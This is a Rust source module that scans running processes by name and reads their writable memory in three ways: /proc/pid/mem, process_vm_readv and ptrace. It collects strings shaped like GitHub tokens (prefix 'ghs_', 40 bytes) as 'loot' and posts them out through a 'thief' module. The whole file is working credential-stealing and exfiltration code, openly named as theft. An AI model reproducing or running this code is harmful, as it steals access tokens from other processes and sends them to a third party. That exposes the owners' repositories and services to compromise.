//! Reading the memory of somebody else's process, in three ways.

use std::fs::{self, File};
use std::io;
use std::ops::Range;
use std::os::unix::fs::FileExt;

use crate::{Failure, thief};

/// What a secret in memory begins with, and how long it is.
const PREFIX: &[u8] = b"ghs_";
const LENGTH: usize = 40;

/// Looks for processes of this name, reads their writable memory and posts the secrets in it.
pub(crate) fn thieve(name: &str, read: fn(i32, Range<usize>) -> io::Result<Vec<u8>>) -> Result<(), Failure> {
    let mut loot = Vec::new();
    for entry in fs::read_dir("/proc")? {
        let Some(pid) = entry?.file_name().to_str().and_then(|name| name.parse().ok()) else {
            continue;
        };
        // A process may end while we look at it.
        let command = fs::read(format!("/proc/{pid}/cmdline")).unwrap_or_default();
        if !command.starts_with(name.as_bytes()) {
            continue;
        }
        for range in writable(pid) {
            let bytes = read(pid, range).unwrap_or_default();
            let places = bytes.windows(LENGTH).filter(|window| window.starts_with(PREFIX));
            places.for_each(|window| loot.extend_from_slice(window));
        }
    }
    if loot.is_empty() {
        return Err(format!("no secret in the memory of any {name}").into());
    }
    thief::post(&loot)
}

fn writable(pid: i32) -> Vec<Range<usize>> {
    let maps = fs::read_to_string(format!("/proc/{pid}/maps")).unwrap_or_default();
    let range = |line: &str| {
        let (range, rest) = line.split_once(' ')?;
        let (start, end) = range.split_once('-')?;
        let hex = |text| usize::from_str_radix(text, 16).ok();
        rest.starts_with("rw").then_some(hex(start)?..hex(end)?)
    };
    maps.lines().filter_map(range).collect()
}

/// By the file that shows it.
pub(crate) fn by_proc_mem(pid: i32, range: Range<usize>) -> io::Result<Vec<u8>> {
    let mut bytes = vec![0; range.len()];
    File::open(format!("/proc/{pid}/mem"))?.read_exact_at(&mut bytes, range.start as u64)?;
    Ok(bytes)
}

/// By the call that copies it.
pub(crate) fn by_process_vm_readv(pid: i32, range: Range<usize>) -> io::Result<Vec<u8>> {
    let mut bytes = vec![0_u8; range.len()];
    let ours = libc::iovec { iov_base: bytes.as_mut_ptr().cast(), iov_len: bytes.len() };
    let theirs = libc::iovec { iov_base: range.start as *mut libc::c_void, iov_len: range.len() };
    // SAFETY: `ours` describes `bytes`, which lives and is ours to write; `theirs` is only an address elsewhere.
    let count = unsafe { libc::process_vm_readv(pid, &raw const ours, 1, &raw const theirs, 1, 0) };
    let count = usize::try_from(count).map_err(|_| io::Error::last_os_error())?;
    bytes.truncate(count);
    Ok(bytes)
}

/// As a debugger does it.
pub(crate) fn by_ptrace(pid: i32, range: Range<usize>) -> io::Result<Vec<u8>> {
    let none = std::ptr::null_mut::<libc::c_void>();
    // SAFETY: attaching takes no pointers.
    if unsafe { libc::ptrace(libc::PTRACE_ATTACH, pid, none, none) } == -1 {
        return Err(io::Error::last_os_error());
    }
    let mut status = 0;
    // SAFETY: `status` lives and is ours to write.
    unsafe { libc::waitpid(pid, &raw mut status, libc::__WALL) };
    let mut bytes = Vec::with_capacity(range.len());
    for address in range.step_by(size_of::<libc::c_long>()) {
        // SAFETY: the address is the other process's, and only read by the kernel on our behalf.
        let word = unsafe { libc::ptrace(libc::PTRACE_PEEKDATA, pid, address as *mut libc::c_void, none) };
        bytes.extend_from_slice(&word.to_ne_bytes());
    }
    // SAFETY: detaching takes no pointers.
    unsafe { libc::ptrace(libc::PTRACE_DETACH, pid, none, none) };
    Ok(bytes)
}
